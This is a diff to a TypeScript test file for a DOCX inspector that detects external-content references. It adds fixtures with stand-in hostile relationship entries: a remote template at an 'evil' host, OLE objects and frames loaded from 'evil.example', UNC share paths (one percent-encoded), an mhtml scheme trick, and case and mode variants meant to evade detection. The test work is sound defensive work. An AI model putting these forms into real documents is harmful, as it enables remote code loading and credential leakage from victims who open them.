@@ -2,7 +2,7 @@
 import { expect, it } from 'vitest';
 import { inspect, noise } from '#test/files/inspect.ts';
 import * as sample from '#test/files/samples.ts';
-import { zip } from '#test/files/zip.ts';
+import { type ZipPart, zip } from '#test/files/zip.ts';
 
 const EVIL = '<Relationship Target="http://evil/t.dotm" Type="x/attachedTemplate" TargetMode="External"/>';
 /** Relations that a search for `Target="…"` in the text would miss. */
@@ -20,6 +20,23 @@ const hiddenTemplates: readonly (readonly [what: string, relation: string])[] = 
   ['hidden in hexadecimal references', EVIL.replace('http:', 'http&#x3A;')],
 ];
 const DECLARED = '<?xml version="1.0" encoding="X"?><a/>';
+const REMOTE = 'https://evil.example/a?b';
+/** Types of content that programs load when a document is opened. */
+const LOADED = ['oleObject', 'frame', 'subDocument', 'image', 'video', 'audio', 'mailMergeSource', 'transform', 'aFChunk', 'package'];
+const STRICT = 'http://purl.oclc.org/ooxml/officeDocument/relationships';
+const external: readonly (readonly [what: string, part: ZipPart])[] = [
+  ...LOADED.map((type) => [`of type ${type}`, sample.referencePart(type, REMOTE)] as const),
+  ['of a type of nobody', sample.referencePart('hyperlinks', REMOTE)],
+  ['of a type like that of a link', sample.referencePart('hyperlink', REMOTE, { of: 'x' })],
+  ['in another case', sample.referencePart('image', 'a.png', { mode: ' targetMode="EXTERNAL"' })],
+  ['of a mode of nobody', sample.referencePart('image', 'a.png', { mode: ' TargetMode="Other"' })],
+  ['on a share', sample.referencePart('oleObject', '\\\\evil\\a', { mode: '' })],
+  ['without a mode', sample.referencePart('image', REMOTE, { mode: '' })],
+  ['which calls itself internal', sample.referencePart('image', REMOTE, { mode: ' TargetMode="Internal"' })],
+  ['with another scheme', sample.referencePart('oleObject', 'mhtml:http://evil!x-usc:http://evil', { mode: '' })],
+  ['on a share, encoded', sample.referencePart('image', '%5c%5cevil%5ca', { mode: '' })],
+  ['on the author’s disk', sample.referencePart('oleObject', 'file:///C:\\Users\\Ann\\budget.xlsx')],
+];
 /** Text that is not well-formed, or that parsers may read in different ways. */
 const brokenXml: readonly (readonly [what: string, body: string | Buffer])[] = [
   ['are empty', ''],
@@ -82,6 +99,11 @@ const cases: [reason: string, what: string, make: () => Buffer | Promise<Buffer>
     'one in UTF-16',
     () => sample.docx({ name: sample.SETTINGS_RELATIONS, body: Buffer.from(`\ufeff<a>${EVIL}</a>`, 'utf16le') }),
   ],
+  ...external.map(([what, part]): (typeof cases)[number] => [
+    'external-content',
+    `a DOCX with content elsewhere ${what}`,
+    () => sample.docx(part),
+  ]),
   ...brokenXml.map(([what, body]): (typeof cases)[number] => [
     'damaged',
     `a DOCX whose references ${what}`,
@@ -123,9 +145,21 @@ it('takes a DOCX whose template is on its author’s own disk', async () => {
   for (const target of targets) expect((await inspect(sample.docx(sample.templatePart(target)))).type).toContain('wordprocessingml');
 });
 
+it('takes a DOCX with links, and with parts of its own', async () => {
+  const parts = [
+    sample.referencePart('hyperlink', REMOTE),
+    sample.referencePart('hyperlink', 'mailto:ann@clinic.example'),
+    sample.referencePart('hyperlink', REMOTE, { of: STRICT }),
+    sample.referencePart('image', 'media/image1.png', { mode: '' }),
+    sample.referencePart('styles', '/word/styles.xml', { mode: ' TargetMode="Internal"' }),
+    sample.referencePart('oleObject', '../embeddings/oleObject1.bin', { mode: '' }),
+  ];
+  for (const part of parts) expect((await inspect(sample.docx(part))).type).toContain('wordprocessingml');
+});
+
 it('takes a DOCX whose references are XML in any of its forms', async () => {
   const inner =
-    '<!-- - --><?x y?><![CDATA[<]]><r:Relationship Id = "1" Type=\'x/styles\' Target="http://a/?a=1&amp;b=&#x20;" ></r:Relationship >\n';
+    '<!-- - --><?x y?><![CDATA[<]]><r:Relationship Id = "1" Type=\'x/styles\' Target="a/?a=1&amp;b=&#x20;" ></r:Relationship >\n';
   const bodies = [
     `<?xml version='1.0' encoding='utf-8' standalone="yes"?>\r\n<!-- x --><a xmlns:r="b">${inner}</a >\n<?z?><!-- -->`,
     Buffer.from(`\ufeff<?xml version="1.0" encoding="UTF-16"?><a>${inner}</a>`, 'utf16le'),
